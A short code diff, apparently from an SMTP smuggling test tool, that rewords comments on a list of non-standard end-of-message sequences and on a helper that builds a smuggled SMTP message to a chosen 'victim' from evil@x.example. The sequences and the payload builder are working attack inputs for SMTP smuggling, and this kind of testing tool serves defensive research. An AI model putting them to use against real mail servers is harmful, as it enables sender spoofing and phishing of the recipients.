@@ -1,7 +1,7 @@
 /** RFC 5321 §4.1.1.4. */
 export const TRUE_END = "\r\n.\r\n";
 
-/** What some server takes for the end of a message: the sequences of SMTP-Smuggling-Tools and of checklist D3. */
+/** Sequences that some servers treat as the end of a message: those of SMTP-Smuggling-Tools and of checklist D3. */
 export const ENDS = [
   "\n.\n",
   "\n.\r",
@@ -16,6 +16,6 @@ export const ENDS = [
   TRUE_END,
 ];
 
-/** A message for somebody else, in the words that would send it. */
+/** A message for another recipient, as the SMTP commands that would send it. */
 export const smuggledTo = (victim: string) =>
   `MAIL FROM:<evil@x.example>\r\nRCPT TO:<${victim}>\r\nDATA\r\nSubject: smuggled\r\n\r\nx\r\n.\r\n`;
